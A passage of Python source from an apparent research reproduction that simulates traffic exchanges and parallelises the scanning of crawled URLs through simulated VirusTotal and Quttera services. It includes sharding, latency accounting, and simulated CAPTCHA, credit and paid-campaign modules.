   simulated server (rotating redirectors, shortener hit accounting)
   and run here, on an ordered serial lane against the shared service,
   so results match the serial path bit for bit,
2. **shard** — file tasks are sharded by registrable domain
   (:func:`~repro.scanexec.sharding.shard_tasks`), preserving the
   staticjs memoisation locality of same-domain pages,
3. **fan out** — each shard runs on a worker from an injectable pool
   against its own :meth:`~repro.detection.aggregate.UrlVerdictService.shard_clone`,
   buffering telemetry per shard,
4. **merge** — verdict maps are merged in original workload order and
   telemetry buffers replayed in shard-index order, so a parallel run
   is bit-identical to ``workers=1`` for a fixed seed.

Simulated verdicts are deterministic per artifact (:func:`stable_unit`
keying), which is what makes the merge trivially conflict-free.  The
executor also carries a :class:`ScanLatencyModel`: the real services
are API-quota/network bound, and the model prices each submission so
speedup is measured on the quantity a production deployment cares
about — scan-phase makespan with round-trips overlapped across workers.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from ..detection.aggregate import UrlVerdict, UrlVerdictService
from ..detection.base import stable_unit
from ..phasexec.executor import InlineExecutor, PhaseExecutor
from .recording import RecordingObserver
from .sharding import ScanShard, ScanTask, shard_tasks

__all__ = [
    "ScanLatencyModel",
    "ShardStats",
    "ScanExecution",
    "InlineExecutor",
    "ParallelScanExecutor",
    "SerialScanExecutor",
]


class ScanLatencyModel:
    """Deterministic per-submission cost of the simulated scan services.

    The paper's scan phase was bound by service round-trips (VirusTotal
    API quotas dominate at 306,895 distinct URLs), not local CPU.  The
    model prices each task accordingly: URL submissions cost two
    scanner-side fetches plus the API round-trip; file submissions cost
    an upload priced per KiB on top of the report round-trip.  A ±15%
    jitter keyed on the URL keeps shards from being artificially
    uniform without losing determinism.
    """

    def __init__(self, url_scan_seconds: float = 0.45,
                 file_scan_seconds: float = 0.12,
                 per_kib_seconds: float = 0.004,
                 jitter: float = 0.15) -> None:
        self.url_scan_seconds = url_scan_seconds
        self.file_scan_seconds = file_scan_seconds
        self.per_kib_seconds = per_kib_seconds
        self.jitter = jitter

    def latency(self, task: ScanTask) -> float:
        if task.is_file_scan:
            base = self.file_scan_seconds
            base += self.per_kib_seconds * (len(task.content or b"") / 1024.0)
        else:
            base = self.url_scan_seconds
        spread = 1.0 + self.jitter * (2.0 * stable_unit("scanexec.latency", task.url) - 1.0)
        return base * spread


@dataclass
class ShardStats:
    """Post-run accounting for one shard."""

    index: int
    urls: int
    domains: int
    #: simulated service-seconds this shard kept one worker busy
    busy_seconds: float
    #: the shard's single most expensive task — the first suspect when a
    #: shard dominates the critical path (obs.export reads these)
    slowest_url: str = ""
    slowest_seconds: float = 0.0
    #: worker slot and start offset under deterministic list scheduling,
    #: filled in by the executor; they define the per-shard trace tracks
    worker: int = 0
    start_seconds: float = 0.0


@dataclass
class ScanExecution:
    """Everything one executor run produced."""

    #: merged verdict map in original workload order — bit-identical to
    #: the serial scan loop's dict for the same task list
    verdicts: "dict[str, UrlVerdict]"
    workers: int
    shard_stats: List[ShardStats] = field(default_factory=list)
    file_tasks: int = 0
    url_tasks: int = 0
    #: simulated cost of running the whole workload on one worker
    serial_seconds: float = 0.0
    #: simulated makespan with round-trips overlapped across ``workers``
    parallel_seconds: float = 0.0

    @property
    def speedup(self) -> float:
        return self.serial_seconds / self.parallel_seconds if self.parallel_seconds else 1.0

    @property
    def utilisation(self) -> float:
        """Mean worker busy-fraction over the parallel phase."""
        if not self.parallel_seconds or not self.workers:
            return 1.0
        busy = sum(stats.busy_seconds for stats in self.shard_stats)
        return min(1.0, busy / (self.workers * self.parallel_seconds))


@dataclass
class _ScanPrep:
    """Main-thread state carried from :meth:`prepare` to :meth:`merge`."""

    parallel_tasks: List[ScanTask]
    verdicts_by_url: Dict[str, UrlVerdict]
    serial_lane_seconds: float


class ParallelScanExecutor(PhaseExecutor):
    """Shards the scan workload and fans it out over a worker pool.

    Parameters
    ----------
    workers:
        Worker-pool width; also the divisor for the simulated makespan.
    shards_per_worker:
        Shard granularity.  More shards than workers lets list
        scheduling smooth out uneven domains at a small batching cost.
    pool_factory:
        ``pool_factory(workers)`` must return a context manager with
        ``submit(fn, *args) -> future``; defaults to
        :class:`ThreadPoolExecutor`, with :class:`InlineExecutor` as the
        deterministic in-process alternative.
    latency:
        The :class:`ScanLatencyModel` pricing submissions.
    """

    phase_name = "scan"

    def __init__(self, workers: int = 4, shards_per_worker: int = 2,
                 pool_factory: Optional[Callable[[int], object]] = None,
                 latency: Optional[ScanLatencyModel] = None) -> None:
        super().__init__(workers=workers, shards_per_worker=shards_per_worker,
                         pool_factory=pool_factory)
        self.latency = latency if latency is not None else ScanLatencyModel()

    # ------------------------------------------------------------------
    def execute(self, tasks: Sequence[ScanTask], service: UrlVerdictService,
                observer: Optional[object] = None) -> ScanExecution:
        """Scan ``tasks`` and return the deterministic merged execution.

        ``service`` is the shared verdict service; shards run against
        :meth:`~repro.detection.aggregate.UrlVerdictService.shard_clone`
        of it, and URL submissions (plus everything, when the service
        has ``submit_files=False`` — the cloaking ablation) stay on the
        ordered serial lane of the shared instance.
        """
        return super().execute(tasks, service, observer)

    def shard_label(self, shard: object) -> str:
        domains = sorted(shard.domains)
        if not domains:
            return "shard-%d" % shard.index
        if len(domains) == 1:
            return domains[0]
        return "%s +%d" % (domains[0], len(domains) - 1)

    def shard_units(self, shard: object) -> int:
        return len(shard)

    # -- PhaseExecutor hooks -------------------------------------------------
    def prepare(self, tasks: Sequence[ScanTask], service: UrlVerdictService,
                observer: Optional[object]) -> _ScanPrep:
        submit_files = getattr(service, "submit_files", True)
        parallel_tasks = [t for t in tasks if t.is_file_scan and submit_files]
        serial_tasks = [t for t in tasks if not (t.is_file_scan and submit_files)]

        verdicts_by_url: Dict[str, UrlVerdict] = {}
        serial_lane_seconds = 0.0
        for task in serial_tasks:  # ordered: the simulated server is stateful
            verdicts_by_url[task.url] = self._scan_task(service, task)
            serial_lane_seconds += self.latency.latency(task)
        return _ScanPrep(parallel_tasks=parallel_tasks,
                         verdicts_by_url=verdicts_by_url,
                         serial_lane_seconds=serial_lane_seconds)

    def shard(self, tasks: Sequence[ScanTask], service: UrlVerdictService,
              state: _ScanPrep) -> List[ScanShard]:
        if not state.parallel_tasks:
            return []
        shard_count = max(1, min(len(state.parallel_tasks),
                                 self.workers * self.shards_per_worker))
        return shard_tasks(state.parallel_tasks, shard_count)

    def shard_state(self, shard: ScanShard, buffer: Optional[RecordingObserver],
                    service: UrlVerdictService, state: _ScanPrep) -> UrlVerdictService:
        return service.shard_clone(observer=buffer)

    def run_shard(
        self, shard: ScanShard, clone: UrlVerdictService,
    ) -> Tuple[List[Tuple[str, UrlVerdict]], float, Tuple[str, float]]:
        """One worker invocation: scan a shard's batch back-to-back."""
        results: List[Tuple[str, UrlVerdict]] = []
        busy = 0.0
        slowest_url, slowest_seconds = "", 0.0
        for task in shard.tasks:
            results.append((task.url, self._scan_task(clone, task)))
            seconds = self.latency.latency(task)
            busy += seconds
            if seconds > slowest_seconds:
                slowest_url, slowest_seconds = task.url, seconds
        return results, busy, (slowest_url, slowest_seconds)

    def merge(self, tasks: Sequence[ScanTask], service: UrlVerdictService,
              state: _ScanPrep, shards: List[ScanShard], results: List[object],
              buffers: List[Optional[RecordingObserver]],
              observer: Optional[object]) -> ScanExecution:
        verdicts_by_url = state.verdicts_by_url
        stats: List[ShardStats] = []
        for shard, result, buffer in zip(shards, results, buffers):
            shard_results, busy, slowest = result
            for url, verdict in shard_results:
                verdicts_by_url[url] = verdict
            if buffer is not None:
                buffer.replay(observer)
            slowest_url, slowest_seconds = slowest
            stats.append(ShardStats(index=shard.index, urls=len(shard),
                                    domains=len(shard.domains), busy_seconds=busy,
                                    slowest_url=slowest_url,
                                    slowest_seconds=slowest_seconds))

        execution = ScanExecution(
            # merge in original workload order: the verdict dict is then
            # bit-identical (values *and* iteration order) to serial
            verdicts={task.url: verdicts_by_url[task.url] for task in tasks},
            workers=self.workers,
            shard_stats=stats,
            file_tasks=len(state.parallel_tasks),
            url_tasks=len(tasks) - len(state.parallel_tasks),
            serial_seconds=state.serial_lane_seconds + sum(s.busy_seconds for s in stats),
            parallel_seconds=state.serial_lane_seconds + self.makespan(stats),
        )
        self._emit_metrics(execution, observer)
        return execution

    # ------------------------------------------------------------------
    @staticmethod
    def _scan_task(service: UrlVerdictService, task: ScanTask) -> UrlVerdict:
        if task.is_file_scan:
            return service.verdict(task.url, content=task.content,
                                   content_type=task.content_type,
                                   final_url=task.final_url)
        return service.verdict(task.url)

    def _emit_metrics(self, execution: ScanExecution, observer: Optional[object]) -> None:
        if observer is None:
            return
        observer.count("scanexec.tasks.file", execution.file_tasks)
        observer.count("scanexec.tasks.url", execution.url_tasks)
        observer.count("scanexec.shards", len(execution.shard_stats))
        observer.gauge_set("scanexec.workers", execution.workers)
        # every shard is enqueued before the first completes, so the
        # submission backlog itself is the queue-depth high-water mark
        observer.gauge_max("scanexec.queue.depth", len(execution.shard_stats))
        observer.gauge_set("scanexec.worker.utilisation", execution.utilisation)
        observer.gauge_set("scanexec.serial_seconds", execution.serial_seconds)
        observer.gauge_set("scanexec.parallel_seconds", execution.parallel_seconds)
        observer.gauge_set("scanexec.speedup", execution.speedup)
        for stats in execution.shard_stats:
            observer.observe("scanexec.shard.busy_seconds", stats.busy_seconds)
            observer.observe("scanexec.shard.urls", stats.urls)


class SerialScanExecutor(ParallelScanExecutor):
    """The serial reference: one worker, inline execution, no threads.

    Useful as an explicit ``CrawlPipeline(scan_executor=...)`` when a
    caller wants executor accounting (shard stats, simulated makespan)
    with serial semantics.
    """

    def __init__(self, latency: Optional[ScanLatencyModel] = None) -> None:
        super().__init__(workers=1, shards_per_worker=1,
                         pool_factory=InlineExecutor, latency=latency)
