"""The parallel sharded scan executor.

Reproduces the paper's bottleneck phase — scanning every distinct URL
with VirusTotal + Quttera + blacklists — as a batched, fan-out workload
instead of a single-threaded loop:

1. **partition** — file submissions (the crawler's saved pages, the
   footnote-1 cloaking mitigation) are pure functions of their bytes
   and parallelise freely; URL submissions fetch through the stateful
   simulated server (rotating redirectors, shortener hit accounting)
   and stay on an ordered serial lane so results match the serial path
   bit for bit,
2. **shard** — file tasks are sharded by registrable domain
   (:func:`~repro.scanexec.sharding.shard_tasks`), preserving the
   staticjs memoisation locality of same-domain pages,
3. **fan out** — each shard runs on a worker from an injectable pool
   (:class:`concurrent.futures.ThreadPoolExecutor` by default,
   :class:`InlineExecutor` for deterministic in-process testing)
   against its own :meth:`~repro.detection.aggregate.UrlVerdictService.shard_clone`,
   buffering telemetry per shard,
4. **merge** — verdict maps are merged in original workload order and
   telemetry buffers replayed in shard-index order, so a parallel run
   is bit-identical to ``workers=1`` for a fixed seed.

Simulated verdicts are deterministic per artifact (:func:`stable_unit`
keying), which is what makes the merge trivially conflict-free.  The
executor also carries a :class:`ScanLatencyModel`: the real services
are API-quota/network bound, and the model prices each submission so
speedup is measured on the quantity a production deployment cares
about — scan-phase makespan with round-trips overlapped across workers.
"""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Callable, List, Optional, Sequence, Tuple

from ..detection.aggregate import UrlVerdict, UrlVerdictService
from ..detection.base import stable_unit
from .recording import RecordingObserver
from .sharding import ScanShard, ScanTask, shard_tasks

__all__ = [
    "ScanLatencyModel",
    "ShardStats",
    "ScanExecution",
    "InlineExecutor",
    "ParallelScanExecutor",
    "SerialScanExecutor",
]


class ScanLatencyModel:
    """Deterministic per-submission cost of the simulated scan services.

    The paper's scan phase was bound by service round-trips (VirusTotal
    API quotas dominate at 306,895 distinct URLs), not local CPU.  The
    model prices each task accordingly: URL submissions cost two
    scanner-side fetches plus the API round-trip; file submissions cost
    an upload priced per KiB on top of the report round-trip.  A ±15%
    jitter keyed on the URL keeps shards from being artificially
    uniform without losing determinism.
    """

    def __init__(self, url_scan_seconds: float = 0.45,
                 file_scan_seconds: float = 0.12,
                 per_kib_seconds: float = 0.004,
                 jitter: float = 0.15) -> None:
        self.url_scan_seconds = url_scan_seconds
        self.file_scan_seconds = file_scan_seconds
        self.per_kib_seconds = per_kib_seconds
        self.jitter = jitter

    def latency(self, task: ScanTask) -> float:
        if task.is_file_scan:
            base = self.file_scan_seconds
            base += self.per_kib_seconds * (len(task.content or b"") / 1024.0)
        else:
            base = self.url_scan_seconds
        spread = 1.0 + self.jitter * (2.0 * stable_unit("scanexec.latency", task.url) - 1.0)
        return base * spread


@dataclass
class ShardStats:
    """Post-run accounting for one shard."""

    index: int
    urls: int
    domains: int
    #: simulated service-seconds this shard kept one worker busy
    busy_seconds: float
    #: the shard's single most expensive task — the first suspect when a
    #: shard dominates the critical path (obs.export reads these)
    slowest_url: str = ""
    slowest_seconds: float = 0.0
    #: worker slot and start offset under deterministic list scheduling,
    #: filled in by the executor; they define the per-shard trace tracks
    worker: int = 0
    start_seconds: float = 0.0


@dataclass
class ScanExecution:
    """Everything one executor run produced."""

    #: merged verdict map in original workload order — bit-identical to
    #: the serial scan loop's dict for the same task list
    verdicts: "dict[str, UrlVerdict]"
    workers: int
    shard_stats: List[ShardStats] = field(default_factory=list)
    file_tasks: int = 0
    url_tasks: int = 0
    #: simulated cost of running the whole workload on one worker
    serial_seconds: float = 0.0
    #: simulated makespan with round-trips overlapped across ``workers``
    parallel_seconds: float = 0.0

    @property
    def speedup(self) -> float:
        return self.serial_seconds / self.parallel_seconds if self.parallel_seconds else 1.0

    @property
    def utilisation(self) -> float:
        """Mean worker busy-fraction over the parallel phase."""
        if not self.parallel_seconds or not self.workers:
            return 1.0
        busy = sum(stats.busy_seconds for stats in self.shard_stats)
        return min(1.0, busy / (self.workers * self.parallel_seconds))


class _ImmediateFuture:
    """The result of an :class:`InlineExecutor` submission."""

    def __init__(self, value: object = None, error: Optional[BaseException] = None) -> None:
        self._value = value
        self._error = error

    def result(self) -> object:
        if self._error is not None:
            raise self._error
        return self._value


class InlineExecutor:
    """Pool-API-compatible executor that runs submissions inline.

    Injectable stand-in for :class:`ThreadPoolExecutor` when a test
    wants the parallel code path — sharding, per-shard services, buffer
    replay, merge — without any actual threads.
    """

    def __init__(self, max_workers: int = 1) -> None:
        self.max_workers = max_workers
        self.submitted = 0

    def submit(self, fn: Callable, *args: object, **kwargs: object) -> _ImmediateFuture:
        self.submitted += 1
        try:
            return _ImmediateFuture(value=fn(*args, **kwargs))
        except BaseException as error:  # re-raised from .result(), like a real pool
            return _ImmediateFuture(error=error)

    def __enter__(self) -> "InlineExecutor":
        return self

    def __exit__(self, *exc_info: object) -> None:
        pass


class ParallelScanExecutor:
    """Shards the scan workload and fans it out over a worker pool.

    Parameters
    ----------
    workers:
        Worker-pool width; also the divisor for the simulated makespan.
    shards_per_worker:
        Shard granularity.  More shards than workers lets list
        scheduling smooth out uneven domains at a small batching cost.
    pool_factory:
        ``pool_factory(workers)`` must return a context manager with
        ``submit(fn, *args) -> future``; defaults to
        :class:`ThreadPoolExecutor`, with :class:`InlineExecutor` as the
        deterministic in-process alternative.
    latency:
        The :class:`ScanLatencyModel` pricing submissions.
    """

    def __init__(self, workers: int = 4, shards_per_worker: int = 2,
                 pool_factory: Optional[Callable[[int], object]] = None,
                 latency: Optional[ScanLatencyModel] = None) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1 (got %d)" % workers)
        self.workers = workers
        self.shards_per_worker = max(1, shards_per_worker)
        self.pool_factory = pool_factory
        self.latency = latency if latency is not None else ScanLatencyModel()

    # ------------------------------------------------------------------
    def execute(self, tasks: Sequence[ScanTask], service: UrlVerdictService,
                observer: Optional[object] = None) -> ScanExecution:
        """Scan ``tasks`` and return the deterministic merged execution.

        ``service`` is the shared verdict service; shards run against
        :meth:`~repro.detection.aggregate.UrlVerdictService.shard_clone`
        of it, and URL submissions (plus everything, when the service
        has ``submit_files=False`` — the cloaking ablation) stay on the
        ordered serial lane of the shared instance.
        """
        submit_files = getattr(service, "submit_files", True)
        parallel_tasks = [t for t in tasks if t.is_file_scan and submit_files]
        serial_tasks = [t for t in tasks if not (t.is_file_scan and submit_files)]

        verdicts_by_url: "dict[str, UrlVerdict]" = {}
        serial_lane_seconds = 0.0
        for task in serial_tasks:  # ordered: the simulated server is stateful
            verdicts_by_url[task.url] = self._scan_task(service, task)
            serial_lane_seconds += self.latency.latency(task)

        shard_count = max(1, min(len(parallel_tasks),
                                 self.workers * self.shards_per_worker))
        shards = shard_tasks(parallel_tasks, shard_count) if parallel_tasks else []
        shard_results = self._run_shards(shards, service, observer)

        stats: List[ShardStats] = []
        for shard, (results, buffer, busy, slowest) in zip(shards, shard_results):
            for url, verdict in results:
                verdicts_by_url[url] = verdict
            if buffer is not None:
                buffer.replay(observer)
            slowest_url, slowest_seconds = slowest
            stats.append(ShardStats(index=shard.index, urls=len(shard),
                                    domains=len(shard.domains), busy_seconds=busy,
                                    slowest_url=slowest_url,
                                    slowest_seconds=slowest_seconds))

        execution = ScanExecution(
            # merge in original workload order: the verdict dict is then
            # bit-identical (values *and* iteration order) to serial
            verdicts={task.url: verdicts_by_url[task.url] for task in tasks},
            workers=self.workers,
            shard_stats=stats,
            file_tasks=len(parallel_tasks),
            url_tasks=len(serial_tasks),
            serial_seconds=serial_lane_seconds + sum(s.busy_seconds for s in stats),
            parallel_seconds=serial_lane_seconds + self._list_schedule_makespan(stats),
        )
        self._emit_metrics(execution, observer)
        return execution

    # ------------------------------------------------------------------
    def _run_shards(
        self, shards: List[ScanShard], service: UrlVerdictService,
        observer: Optional[object],
    ) -> List[Tuple[List[Tuple[str, UrlVerdict]], Optional[RecordingObserver],
                    float, Tuple[str, float]]]:
        if not shards:
            return []
        factory = self.pool_factory or (lambda n: ThreadPoolExecutor(max_workers=n))
        jobs = []
        for shard in shards:
            buffer = RecordingObserver() if observer is not None else None
            clone = service.shard_clone(observer=buffer)
            jobs.append((shard, clone, buffer))
        with factory(self.workers) as pool:
            futures = [
                (pool.submit(self._run_shard, shard, clone), buffer)
                for shard, clone, buffer in jobs
            ]
            out = []
            for future, buffer in futures:
                results, busy, slowest = future.result()
                out.append((results, buffer, busy, slowest))
            return out

    def _run_shard(
        self, shard: ScanShard, service: UrlVerdictService,
    ) -> Tuple[List[Tuple[str, UrlVerdict]], float, Tuple[str, float]]:
        """One worker invocation: scan a shard's batch back-to-back."""
        results: List[Tuple[str, UrlVerdict]] = []
        busy = 0.0
        slowest_url, slowest_seconds = "", 0.0
        for task in shard.tasks:
            results.append((task.url, self._scan_task(service, task)))
            seconds = self.latency.latency(task)
            busy += seconds
            if seconds > slowest_seconds:
                slowest_url, slowest_seconds = task.url, seconds
        return results, busy, (slowest_url, slowest_seconds)

    @staticmethod
    def _scan_task(service: UrlVerdictService, task: ScanTask) -> UrlVerdict:
        if task.is_file_scan:
            return service.verdict(task.url, content=task.content,
                                   content_type=task.content_type,
                                   final_url=task.final_url)
        return service.verdict(task.url)

    def _list_schedule_makespan(self, stats: Sequence[ShardStats]) -> float:
        """Makespan of the shards list-scheduled onto ``workers`` slots.

        Shards are dispatched in index order to the earliest-free
        worker — exactly what a thread pool does, computed on the
        simulated clock so the figure is deterministic.  As a side
        effect each shard learns its worker slot and start offset; the
        Chrome-trace exporter draws the per-worker tracks from these.
        """
        free = [0.0] * self.workers
        for shard in stats:
            slot = min(range(self.workers), key=lambda i: (free[i], i))
            shard.worker = slot
            shard.start_seconds = free[slot]
            free[slot] += shard.busy_seconds
        return max(free) if stats else 0.0

    def _emit_metrics(self, execution: ScanExecution, observer: Optional[object]) -> None:
        if observer is None:
            return
        observer.count("scanexec.tasks.file", execution.file_tasks)
        observer.count("scanexec.tasks.url", execution.url_tasks)
        observer.count("scanexec.shards", len(execution.shard_stats))
        observer.gauge_set("scanexec.workers", execution.workers)
        # every shard is enqueued before the first completes, so the
        # submission backlog itself is the queue-depth high-water mark
        observer.gauge_max("scanexec.queue.depth", len(execution.shard_stats))
        observer.gauge_set("scanexec.worker.utilisation", execution.utilisation)
        observer.gauge_set("scanexec.serial_seconds", execution.serial_seconds)
        observer.gauge_set("scanexec.parallel_seconds", execution.parallel_seconds)
        observer.gauge_set("scanexec.speedup", execution.speedup)
        for stats in execution.shard_stats:
            observer.observe("scanexec.shard.busy_seconds", stats.busy_seconds)
            observer.observe("scanexec.shard.urls", stats.urls)


class SerialScanExecutor(ParallelScanExecutor):
    """The serial reference: one worker, inline execution, no threads.

    Useful as an explicit ``CrawlPipeline(scan_executor=...)`` when a
    caller wants executor accounting (shard stats, simulated makespan)
    with serial semantics.
    """

    def __init__(self, latency: Optional[ScanLatencyModel] = None) -> None:
        super().__init__(workers=1, shards_per_worker=1,
                         pool_factory=InlineExecutor, latency=latency)
