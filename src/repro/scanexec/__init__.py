"""repro.scanexec — the parallel sharded scan executor.

Turns the scan phase (every distinct crawled URL through VirusTotal +
Quttera + blacklists) from a single-threaded loop into a domain-sharded
fan-out over a configurable worker pool, with a deterministic merge
that keeps parallel output bit-identical to the serial path.  See
:mod:`repro.scanexec.executor` for the phase-by-phase design.
"""

from .executor import (
    InlineExecutor,
    ParallelScanExecutor,
    ScanExecution,
    ScanLatencyModel,
    SerialScanExecutor,
    ShardStats,
)
from .recording import RecordingObserver
from .sharding import ScanShard, ScanTask, build_scan_tasks, shard_tasks, task_domain

__all__ = [
    "InlineExecutor",
    "ParallelScanExecutor",
    "RecordingObserver",
    "ScanExecution",
    "ScanLatencyModel",
    "ScanShard",
    "ScanTask",
    "SerialScanExecutor",
    "ShardStats",
    "build_scan_tasks",
    "shard_tasks",
    "task_domain",
]
