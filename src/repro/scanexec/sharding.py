"""Domain-sharded partitioning of the distinct-URL scan workload.

The scan phase is embarrassingly parallel *per URL*, but not uniformly
so: the staticjs analyzer memoises per script source and crawled sites
repeat a small set of inline scripts, so URLs from one registrable
domain share cache lines.  Sharding by domain keeps that locality — a
domain's URLs always land in the same shard, and a shard's worker walks
them back-to-back.

Assignment is deterministic: domains are ordered by workload size
(largest first, domain name as tie-break) and greedily placed on the
least-loaded shard, so the same task list always produces the same
shards regardless of thread scheduling.
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from ..simweb.url import Url

__all__ = ["ScanTask", "ScanShard", "build_scan_tasks", "shard_tasks", "task_domain"]


@dataclass
class ScanTask:
    """One unit of scan work: a distinct URL plus its crawled copy."""

    url: str
    #: the crawler's saved page bytes; None means the scanners must fetch
    #: the URL themselves (a URL submission — cloaking applies)
    content: Optional[bytes] = None
    content_type: str = "text/html"
    final_url: Optional[str] = None

    @property
    def is_file_scan(self) -> bool:
        return self.content is not None


@dataclass
class ScanShard:
    """A batch of tasks bound for one worker invocation."""

    index: int
    tasks: List[ScanTask] = field(default_factory=list)
    domains: List[str] = field(default_factory=list)

    def __len__(self) -> int:
        return len(self.tasks)


def task_domain(task: ScanTask) -> str:
    """The registrable domain a task shards on ('' when unparseable)."""
    parsed = Url.try_parse(task.url)
    return parsed.registrable_domain if parsed is not None else ""


def build_scan_tasks(dataset) -> List[ScanTask]:
    """The scan workload for a crawl dataset, in distinct-URL order.

    ``dataset`` is a :class:`~repro.crawler.storage.CrawlDataset`
    (duck-typed: ``distinct_urls()`` + ``content``) — the same inputs
    the serial scan loop reads.
    """
    tasks: List[ScanTask] = []
    for url in dataset.distinct_urls():
        cached = dataset.content.get(url)
        if cached is None:
            tasks.append(ScanTask(url=url))
        else:
            tasks.append(ScanTask(
                url=url,
                content=cached.content,
                content_type=cached.content_type,
                final_url=cached.final_url,
            ))
    return tasks


def shard_tasks(tasks: Sequence[ScanTask], shard_count: int) -> List[ScanShard]:
    """Partition ``tasks`` into at most ``shard_count`` domain shards.

    All tasks of one domain land in the same shard, in their original
    workload order.  Empty shards are dropped, so fewer shards than
    requested come back when there are fewer domains than slots.
    """
    if shard_count < 1:
        raise ValueError("shard_count must be >= 1 (got %d)" % shard_count)
    by_domain: Dict[str, List[ScanTask]] = {}
    for task in tasks:
        by_domain.setdefault(task_domain(task), []).append(task)

    # largest-first greedy binning onto the least-loaded shard; the heap
    # is keyed (load, index) so ties always break to the lowest shard
    ordered = sorted(by_domain.items(), key=lambda kv: (-len(kv[1]), kv[0]))
    heap = [(0, index) for index in range(shard_count)]
    shards = [ScanShard(index=index) for index in range(shard_count)]
    for domain, domain_tasks in ordered:
        load, index = heapq.heappop(heap)
        shards[index].tasks.extend(domain_tasks)
        shards[index].domains.append(domain)
        heapq.heappush(heap, (load + len(domain_tasks), index))

    populated = [shard for shard in shards if shard.tasks]
    for new_index, shard in enumerate(populated):
        shard.index = new_index
    return populated
