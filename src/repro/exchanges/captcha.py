"""CAPTCHA gate for manual-surf exchanges.

Manual-surf exchanges make the user "manually click and open websites,
often after solving CAPTCHAs or other puzzles" (Figure 1(b): Cash N
Hits' image CAPTCHA).  We model a simple arithmetic/image-pick challenge
with a solver whose latency and accuracy reflect a human operator —
which is what throttles manual crawls to a few thousand pages.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

__all__ = ["Captcha", "CaptchaGate", "HumanSolver"]


@dataclass
class Captcha:
    """One challenge: pick index ``answer`` among ``choices`` options."""

    challenge_id: int
    choices: int
    answer: int


class CaptchaGate:
    """Issues and verifies challenges."""

    def __init__(self, rng: random.Random, choices: int = 6) -> None:
        self._rng = rng
        self._choices = choices
        self._next_id = 1
        self.issued = 0
        self.passed = 0
        self.failed = 0

    def issue(self) -> Captcha:
        captcha = Captcha(
            challenge_id=self._next_id,
            choices=self._choices,
            answer=self._rng.randrange(self._choices),
        )
        self._next_id += 1
        self.issued += 1
        return captcha

    def verify(self, captcha: Captcha, answer: int) -> bool:
        ok = answer == captcha.answer
        if ok:
            self.passed += 1
        else:
            self.failed += 1
        return ok


@dataclass
class HumanSolver:
    """A human-like solver: slow, mostly right."""

    rng: random.Random
    accuracy: float = 0.92
    seconds_per_solve: float = 6.0

    def solve(self, captcha: Captcha) -> int:
        if self.rng.random() < self.accuracy:
            return captcha.answer
        wrong = captcha.answer
        while wrong == captcha.answer:
            wrong = self.rng.randrange(captcha.choices)
        return wrong
