"""The exchange credit economy.

Members "earn credit for viewing other members' websites" and can
"barter traffic for their own website" or simply purchase credits; the
cost per thousand hits ranges from a few cents to a few dollars
(Section II).  The ledger implements earn/spend/purchase with the
reciprocity ratio exchanges apply (you do not get one visit per visit).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

__all__ = ["CreditLedger", "PricingPlan"]


@dataclass
class PricingPlan:
    """One exchange's economics."""

    #: credits earned per completed surf (scaled by surf seconds)
    credits_per_surf: float = 1.0
    #: credits charged per visit delivered to a member's site
    credits_per_visit: float = 1.25  # >1: reciprocity is not 1:1
    #: USD per 1000 purchased visits (paper: cents to dollars; the
    #: burst-validation experiment paid $5 for 2500 visits = $2 CPM)
    usd_per_1000_visits: float = 2.0


class CreditLedger:
    """Tracks per-member credits."""

    def __init__(self, plan: PricingPlan) -> None:
        self.plan = plan
        self._balances: Dict[str, float] = {}
        self.total_purchased_usd = 0.0

    def balance(self, member_id: str) -> float:
        return self._balances.get(member_id, 0.0)

    def earn_surf(self, member_id: str, surf_seconds: float, min_surf_seconds: float) -> float:
        """Credit a completed page view; longer minimums earn more."""
        earned = self.plan.credits_per_surf * max(surf_seconds / max(min_surf_seconds, 1.0), 1.0)
        self._balances[member_id] = self.balance(member_id) + earned
        return earned

    def charge_visit(self, member_id: str) -> bool:
        """Deduct the cost of one delivered visit; False if insolvent."""
        cost = self.plan.credits_per_visit
        if self.balance(member_id) < cost:
            return False
        self._balances[member_id] -= cost
        return True

    def purchase_visits(self, member_id: str, usd: float) -> int:
        """Buy visits for cash; returns the number of visits credited."""
        if usd <= 0:
            raise ValueError("purchase amount must be positive")
        visits = int(usd / self.plan.usd_per_1000_visits * 1000)
        self._balances[member_id] = (
            self.balance(member_id) + visits * self.plan.credits_per_visit
        )
        self.total_purchased_usd += usd
        return visits
