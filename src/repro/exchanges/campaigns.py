"""Paid traffic campaigns.

Section IV / Figure 3: the bursts of malicious URLs on manual-surf
exchanges "can be explained by paid campaigns of fix durations"; the
authors validated this by purchasing 2,500 visits for $5 and receiving
4,621 visits from 2,685 unique IP addresses in under an hour.  A
:class:`Campaign` is a window (in surf-step index space) during which
the campaign's target dominates the rotation; :class:`CampaignSchedule`
answers "which campaign is active at step N?".
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional

__all__ = ["Campaign", "CampaignSchedule"]


@dataclass
class Campaign:
    """One purchased traffic campaign."""

    target_url: str
    start_step: int
    visits_purchased: int
    #: fraction of rotation slots inside the window the target receives
    intensity: float = 0.85
    #: exchanges over-deliver (the paper got 4,621 visits for 2,500 paid)
    overdelivery: float = 1.5

    @property
    def visits_to_deliver(self) -> int:
        return int(self.visits_purchased * self.overdelivery)

    @property
    def end_step(self) -> int:
        """Exclusive end of the delivery window in surf steps."""
        span = max(1, int(self.visits_to_deliver / max(self.intensity, 1e-9)))
        return self.start_step + span

    def active_at(self, step: int) -> bool:
        return self.start_step <= step < self.end_step


@dataclass
class CampaignSchedule:
    """All campaigns an exchange will deliver, by surf-step windows."""

    campaigns: List[Campaign] = field(default_factory=list)

    def add(self, campaign: Campaign) -> None:
        self.campaigns.append(campaign)
        self.campaigns.sort(key=lambda c: c.start_step)

    def active(self, step: int) -> Optional[Campaign]:
        for campaign in self.campaigns:
            if campaign.active_at(step):
                return campaign
        return None

    def pick_url(self, step: int, rng: random.Random) -> Optional[str]:
        """The campaign URL to serve at ``step``, if a campaign claims it."""
        campaign = self.active(step)
        if campaign is not None and rng.random() < campaign.intensity:
            return campaign.target_url
        return None

    def total_steps_claimed(self) -> int:
        return sum(c.end_step - c.start_step for c in self.campaigns)
