"""Traffic exchange engines.

